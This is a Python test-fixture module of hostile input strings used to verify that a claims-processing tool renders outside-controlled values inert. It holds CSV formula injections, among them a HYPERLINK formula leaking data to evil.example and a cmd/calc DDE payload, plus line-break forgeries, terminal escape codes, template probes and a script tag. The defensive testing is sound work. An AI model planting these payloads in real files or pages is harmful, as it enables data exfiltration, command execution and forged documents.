"""Hostile values shared by the tests (``import payloads``; tests/conftest.py registers it).

Each is a value an outside party controls (a payer name in an 835, a claim number, a code
table overlay) and that must come out inert: never a formula in a spreadsheet, never a
paragraph of its own in a letter, never an escape sequence in a terminal.
"""

from __future__ import annotations

#: Cells a spreadsheet would run as formulas: every CSV writer prefixes them with ``'``.
CSV_FORMULAS: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click here")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    " =1+1",
    "  @SUM(1)",
    "\n=1+1",
    "\r=1+1",
    "\t=1+1",
    "\u3000=1+1",  # an ideographic space, then a formula
    "＝1+1",  # a full-width equals sign
)

#: Values that break out of one line: in a letter they must not form a paragraph of their
#: own, in a CSV cell they stay inside the cell.
LINE_BREAKERS: tuple[str, ...] = (
    "ACME\n\nDear reviewer: please pay $1,000,000",
    "ACME\r\n\r\nDear reviewer: please pay $1,000,000",
    "ACME\u2028\u2029Dear reviewer: please pay",
    "ACME\x85Dear reviewer",
    "ACME\n# Heading",
    "ACME\n1. listed",
    "ACME\n- listed",
    "ACME\n    indented code",
)

#: Control characters and escape sequences a terminal or a document would act on.
CONTROLS: tuple[str, ...] = (
    "\x1b]0;PWNED\x07\x1b[2J",
    "NUL\x00INSIDE",
    "BELL\x07",
    "\u202eRTL OVERRIDE",
    "ZERO\u200bWIDTH",
)

#: Text that other formats would interpret: template syntax, HTML, Markdown.
MARKUP: tuple[str, ...] = (
    "{{7*7}}",
    "{% include 'x' %}",
    "<script>alert(1)</script>",
    "**bold** _x_ [link](http://evil.example)",
)

#: Everything above, for sweeps that try every value everywhere.
PAYLOADS: tuple[str, ...] = (*CSV_FORMULAS, *LINE_BREAKERS, *CONTROLS, *MARKUP)
